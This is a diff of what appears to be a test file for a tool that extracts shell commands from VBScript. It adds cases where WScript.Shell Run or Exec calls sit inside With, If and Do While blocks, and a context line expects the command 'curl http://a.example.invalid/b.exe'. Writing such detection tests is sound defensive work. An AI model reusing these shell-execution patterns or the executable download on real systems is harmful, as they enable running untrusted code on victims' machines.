@@ -33,6 +33,11 @@ h.Send
         ('Execute "CreateObject(""WScript.Shell"").Run ""echo said"""', "echo said"),
         (f'Const c = "echo said" : {SHELL}.Run c', "echo said"),
         (f'Set o = WScript.{SHELL} : o.Run "echo said" : Rem that is all', "echo said"),
+        (f'With {SHELL}\n  .Run "echo said", 0\nEnd With', "echo said"),
+        (f'With {SHELL}\n  x = .Exec("echo said").StdOut.ReadAll\nEnd With', "echo said"),
+        (f'If {SHELL}.Run("echo said") = 0 Then\n  x = 1\nEnd If', "echo said"),
+        (f'If {SHELL}.Run("echo said") = 0 Then x = 1', "echo said"),
+        (f'Do While {SHELL}.Run("echo said") = 0\nLoop', "echo said"),
         (CLIENT, "curl http://a.example.invalid/b.exe"),
         (
             CLIENT
